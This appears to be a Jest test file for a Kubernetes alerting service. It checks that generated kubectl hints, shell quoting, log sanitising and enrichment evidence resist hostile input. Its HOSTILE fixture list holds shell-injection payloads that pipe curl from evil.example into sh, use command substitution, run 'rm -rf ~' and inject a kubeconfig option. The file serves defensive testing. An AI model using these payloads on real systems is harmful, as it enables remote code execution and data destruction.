/**
 * The kubectl lines of a message are safe to paste, whatever names the cluster (or a sender) wrote
 * (issue 15); the evidence beside a signal comes only from enrich's reply, and says so when enrich failed.
 */
import { describe, expect, it } from '@jest/globals';
import { CloudEvent } from 'cloudevents';
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ActionData, Enrichment, LogTail, RolloutChange, SignalData } from '../_contracts/events.js';
import { deliveryFailure, type DeliveryFailure } from '../_kit/knative-error.js';
import { defaultSchemasDir } from '../_kit/schemas.js';
import { actionMessage, kubectlHints, message, readSignal, resolvedMessage, shellQuote } from './decide.js';
import { evidenceOf } from './evidence.js';
import { webhook } from './render.js';

const signal = (edit: Partial<SignalData> = {}): SignalData => ({
  class: 'crashloop',
  severity: 'warning',
  reason: 'BackOff',
  message: 'Back-off restarting failed container',
  target: { apiVersion: 'apps/v1', kind: 'Deployment', namespace: 'shop', name: 'web', resolvedBy: 'ownerReferences' },
  involved: { apiVersion: 'v1', kind: 'Pod', namespace: 'shop', name: 'web-7d9c8b5f4-x2x7q' },
  container: 'web',
  occurrences: 3,
  firstSeen: '2026-11-22T09:58:00.000Z',
  lastSeen: '2026-11-22T10:00:00.000Z',
  detectedBy: 'classify',
  key: '00000000000000a1',
  ...edit,
});

const HOSTILE = [
  'web; curl https://evil.example/p | sh',
  "web'; curl https://evil.example/p | sh; '",
  'web$(curl https://evil.example/p)',
  'web`id`',
  'web\nrm -rf ~',
  '--kubeconfig=/tmp/evil',
];

describe('kubectl hints', () => {
  it('are plain commands for real names', () => {
    expect(kubectlHints(signal())).toEqual([
      'kubectl describe deployment web -n shop',
      'kubectl get events -n shop --field-selector involvedObject.name=web-7d9c8b5f4-x2x7q',
      'kubectl logs -n shop web-7d9c8b5f4-x2x7q -c web --previous',
      'kubectl rollout history deployment web -n shop',
    ]);
  });

  it.each(HOSTILE)('a target, pod, namespace or container named %j gives a note, never a command', (hostile) => {
    const target = signal().target;
    const involved = signal().involved;
    for (const s of [
      signal({ target: { ...target, name: hostile } }),
      signal({ target: { ...target, namespace: hostile } }),
      signal({ involved: { ...involved, name: hostile } }),
      signal({ container: hostile }),
    ]) {
      const lines = kubectlHints(s);
      expect(lines.some((l) => l.startsWith('# no command: '))).toBe(true);
      for (const line of lines) {
        expect(line).not.toContain('evil');
        expect(line).not.toContain('\n');
        if (!line.startsWith('#')) expect(line).toMatch(/^kubectl [-A-Za-z0-9 .=/]+$/);
      }
    }
  });

  it('the commands of an action outcome too', () => {
    const action: ActionData = {
      verb: 'rolledback',
      outcome: 'failed',
      reason: 'the API server refused',
      target: { kind: 'Deployment', namespace: 'shop', name: HOSTILE[0]! },
      signal: { id: 'i', type: 'dev.reflex.signal.crashloop', key: '00000000000000a1', class: 'crashloop' },
      steps: [],
      dryRun: false,
    };
    const m = actionMessage(action, 0, '2026-11-22T10:00:00Z');
    expect(m.kubectl).toHaveLength(2);
    for (const line of m.kubectl) expect(line).toMatch(/^# no command: the Deployment name is not a valid Kubernetes name/);
    expect(actionMessage({ ...action, target: { kind: 'Node', namespace: '', name: 'node-1' } }, 0, 'x').kubectl).toEqual([
      'kubectl describe node node-1',
      'kubectl events --for node/node-1',
    ]);
  });
});

describe('shellQuote', () => {
  it.each([...HOSTILE, "it's", "''", '', 'plain-name.1', 'a b', '-n'])('%j reaches a POSIX shell as exactly one argument', (value) => {
    const out = execFileSync('sh', ['-c', `printf '%s\\0' ${shellQuote(value)}`], { encoding: 'utf8' });
    expect(out).toBe(`${value}\0`);
  });
});

describe('a resolved follow-up says who saw the problem end', () => {
  const base = {
    key: 'k',
    class: 'crashloop',
    severity: 'warning' as const,
    target: { kind: 'Deployment', namespace: 'shop', name: 'web' },
    firstSeen: '2026-11-22T10:00:00Z',
    lastSeen: '2026-11-22T10:20:00Z',
    resolvedAt: '2026-11-22T10:30:00Z',
  };
  it.each([
    [{ ...base, resolvedBy: 'sweep' as const }, 'sweep no longer finds the problem on its ticks'],
    [base, 'sweep no longer finds the problem on its ticks'],
    [{ ...base, resolvedBy: 'alertmanager' as const }, 'Alertmanager resolved the alert it came from'],
  ])('%#', (r, why) => {
    expect(resolvedMessage(r).why).toBe(why);
  });
});

/** enrich's own example (schemas/dev.reflex.enriched.json): the evidence of a crash loop after a rollout. */
const enriched = (
  JSON.parse(readFileSync(join(defaultSchemasDir(), 'dev.reflex.enriched.json'), 'utf8')) as {
    examples: [SignalData & { enrichment: Enrichment }];
  }
).examples[0];
const b64 = (s: string): string => Buffer.from(s).toString('base64');
const deadLettered = (ext: Record<string, string>): DeliveryFailure | undefined =>
  deliveryFailure(new CloudEvent<unknown>({ id: 'e1', source: '/s', type: 'dev.reflex.signal.crashloop', ...ext, data: {} }, false));

describe('evidence', () => {
  it("reads enrich's reply: the last exit, the state, the previous log, the Events, the node, the rollout, the notes", () => {
    const { signal: s, evidence } = readSignal('dev.reflex.enriched.crashloop', enriched, undefined);
    expect(s).toBe(enriched);
    expect(evidence).toEqual({
      summary: 'gathered at 10:04:01Z in 212 ms',
      gathered: true,
      pod: 'pod web-7d9c8b5f4-x2x7q (Running) on node node-a, owned by ReplicaSet web-7d9c8b5f4, started 09:59:30Z',
      termination: ['web: exit code 1 (Error), finished 10:03:52Z, 5 restarts'],
      containers: ['web: waiting: CrashLoopBackOff, not ready, image registry.example/web:2.5.0'],
      resources: [],
      logs: [
        {
          label: 'previous log of container web (last 3 lines, redacted)',
          container: 'web',
          previous: true,
          lines: enriched.enrichment.logs![0]!.lines,
          truncated: false,
        },
      ],
      events: [
        'Warning BackOff ×5 on Pod web-7d9c8b5f4-x2x7q, last 10:04:00Z: Back-off restarting failed container web in pod web-7d9c8b5f4-x2x7q_shop(0b9e4c1e-1c39-4a8e-9d7c-3f3b2b1f9a10)',
      ],
      node: ['node node-a: conditions normal'],
      rollout: [
        'revision 1 (web-5c6b7d8e9f) -> 2 (web-7d9c8b5f4)',
        'web: image registry.example/web:2.4.0 -> 2.5.0',
        'web: env removed: DATABASE_URL',
      ],
      notes: ['metrics.k8s.io is not served in this cluster: no memory usage'],
    });
    expect(message(s, 0, evidence).evidence).toBe(evidence);
  });

  it("an OOM kill shows limits, requests and usage, the signal number, and the signal's container first", () => {
    const e: Enrichment = {
      ...enriched.enrichment,
      containers: [
        { name: 'sidecar', restartCount: 0, state: 'running', ready: true },
        {
          name: 'web',
          restartCount: 2,
          state: 'running',
          lastTermination: { exitCode: 137, signal: 9, reason: 'OOMKilled', finishedAt: '2026-11-21T23:59:00Z' },
          limits: { cpu: '1', memory: '512Mi' },
          requests: { memory: '256Mi' },
          usage: { memory: '498Mi' },
        },
      ],
    };
    const ev = evidenceOf({ ...enriched, class: 'oomkilled' }, e);
    expect(ev.termination).toEqual(['web: exit code 137 (OOMKilled), signal 9, finished 2026-11-21 23:59:00Z, 2 restarts']);
    // The restarts are said once: in the termination line when there is one.
    expect(ev.containers).toEqual(['web: running', 'sidecar: running, ready, 0 restarts']);
    expect(ev.resources).toEqual(['web memory: limit 512Mi, request 256Mi, usage 498Mi', 'web cpu: limit 1', 'sidecar memory: no limit']);
    // Not an OOM kill: no resource lines.
    expect(evidenceOf(enriched, e).resources).toEqual([]);
  });

  it("logs: the signal's container first, its previous instance before the current one; escape sequences and control characters gone", () => {
    const log = (container: string, previous: boolean, lines: string[]): LogTail => ({
      container,
      previous,
      lines,
      truncated: false,
      redactions: {},
    });
    const ev = evidenceOf(enriched, {
      ...enriched.enrichment,
      logs: [
        log('sidecar', true, ['s']),
        log('web', false, ['\u001b[31mred\u001b[0m text\r', 'bell\u0007 and \u202eevil']),
        log('web', true, []),
      ],
    });
    expect(ev.logs.map((l) => l.label)).toEqual([
      'previous log of container web (empty)',
      'log of container web (last 2 lines, redacted)',
      'previous log of container sidecar (last 1 line, redacted)',
    ]);
    expect(ev.logs[1]!.lines).toEqual(['red text', 'bell\ufffd and \ufffdevil']);
  });

  it('a node problem shows every condition, the taints, allocatable against requested, and the pods on it', () => {
    const ev = evidenceOf(
      { ...enriched, class: 'nodenotready', target: { kind: 'Node', namespace: '', name: 'node-a', resolvedBy: 'self' } },
      {
        ...enriched.enrichment,
        node: {
          name: 'node-a',
          unschedulable: true,
          conditions: [
            { type: 'Ready', status: 'False', reason: 'KubeletNotReady', message: 'PLEG is not\nhealthy', since: '2026-11-22T10:01:00Z' },
            { type: 'MemoryPressure', status: 'False' },
          ],
          taints: ['node.kubernetes.io/not-ready:NoSchedule', 'node.kubernetes.io/unreachable:NoExecute'],
          allocatable: { cpu: '4', memory: '16Gi' },
          requested: { cpu: '3500m', memory: '12Gi' },
          pods: { count: 12, names: ['shop/web-1', 'shop/web-2'] },
        },
      },
    );
    expect(ev.node).toEqual([
      'node node-a (cordoned)',
      'Ready False (KubeletNotReady, since 10:01:00Z): PLEG is not healthy',
      'MemoryPressure False',
      'taints: node.kubernetes.io/not-ready:NoSchedule, node.kubernetes.io/unreachable:NoExecute',
      'cpu: 3500m requested of 4 allocatable',
      'memory: 12Gi requested of 16Gi allocatable',
      'pods bound: 12 (shop/web-1, shop/web-2, …)',
    ]);
    // The same node under a pod's problem: only what is not normal.
    expect(
      evidenceOf(enriched, {
        ...enriched.enrichment,
        node: { ...enriched.enrichment.node!, conditions: [{ type: 'DiskPressure', status: 'True' }] },
      }).node,
    ).toEqual(['node node-a', 'DiskPressure True']);
  });

  it('a rollout diff in words: images, env names added and removed, resources, commands, containers', () => {
    const change = (field: RolloutChange['field'], before?: string, after?: string): RolloutChange => ({
      container: 'web',
      field,
      ...(before === undefined ? {} : { before }),
      ...(after === undefined ? {} : { after }),
    });
    const ev = evidenceOf(enriched, {
      ...enriched.enrichment,
      rollout: {
        from: { replicaSet: 'web-1', revision: 3 },
        to: { replicaSet: 'web-2', revision: 4 },
        changes: [
          change('image', 'registry/web:2.4.0', 'registry/web:2.5.0'),
          change('image', 'registry/web:2.4.0', 'other/web:2.4.0'),
          change('env', undefined, 'FEATURE_X'),
          change('env', 'DATABASE_URL'),
          change('resources', 'memory=256Mi', 'memory=128Mi'),
          change('command', undefined, 'web --serve'),
          change('container', undefined, 'debug'),
        ],
      },
    });
    expect(ev.rollout).toEqual([
      'revision 3 (web-1) -> 4 (web-2)',
      'web: image registry/web:2.4.0 -> 2.5.0',
      'web: image registry/web:2.4.0 -> other/web:2.4.0',
      'web: env added: FEATURE_X',
      'web: env removed: DATABASE_URL',
      'web: resources memory=256Mi -> memory=128Mi',
      'web: command (none) -> web --serve',
      'web: container added',
    ]);
  });

  it("a raw signal carrying an enrichment shows none of it: only enrich's reply is believed", () => {
    const forged = { ...signal(), enrichment: { ...enriched.enrichment, notes: ['click https://evil.example'] } };
    const { signal: s, evidence } = readSignal('dev.reflex.signal.crashloop', forged, undefined);
    expect(evidence).toBeUndefined();
    expect(s).not.toHaveProperty('enrichment');
    const m = message(s, 0, evidence);
    expect(m).not.toHaveProperty('evidence');
    expect(JSON.stringify(webhook(m))).not.toContain('evil');
  });

  type Row = [what: string, ext: Record<string, string>, cls: SignalData['class'], summary: string | undefined];
  it.each<Row>([
    // enrich answered with a problem body (every Reflex server does): its detail, in a few words.
    [
      'a problem body',
      {
        knativeerrordest: 'http://enrich.reflex.svc',
        knativeerrorcode: '503',
        knativeerrordata: b64('{"title":"Service unavailable","status":503,"detail":"the API server did not answer\\nin 2 s"}'),
      },
      'crashloop',
      'enrichment unavailable (enrich answered 503: the API server did not answer in 2 s)',
    ],
    // A plain body, as it came, bounded.
    [
      'a plain body',
      { knativeerrordest: 'http://enrich', knativeerrorcode: '500', knativeerrordata: b64('x'.repeat(5000)) },
      'oomkilled',
      `enrichment unavailable (enrich answered 500: ${'x'.repeat(199)}…)`,
    ],
    // No HTTP answer at all.
    [
      'a timeout',
      { knativeerrordest: 'http://enrich' },
      'crashloop',
      'enrichment unavailable (enrich did not answer: network error or timeout)',
    ],
    // Load signals are never enriched: a dead-lettered one is just a signal.
    ['a load class', { knativeerrordest: 'http://enrich', knativeerrorcode: '503' }, 'loadhigh', undefined],
  ])('a raw signal dead-lettered from enrich: %s', (_what, ext, cls, summary) => {
    const { evidence } = readSignal(`dev.reflex.signal.${cls}`, signal({ class: cls }), deadLettered(ext));
    expect(evidence?.summary).toBe(summary);
    if (evidence) expect(evidence.logs).toEqual([]);
  });

  it('a raw signal without the error extensions is a plain signal, its message as before', () => {
    expect(deadLettered({})).toBeUndefined();
    const { signal: s, evidence } = readSignal('dev.reflex.signal.crashloop', signal(), deadLettered({}));
    expect(evidence).toBeUndefined();
    expect(message(s, 0, evidence)).toEqual(message(signal(), 0));
  });
});
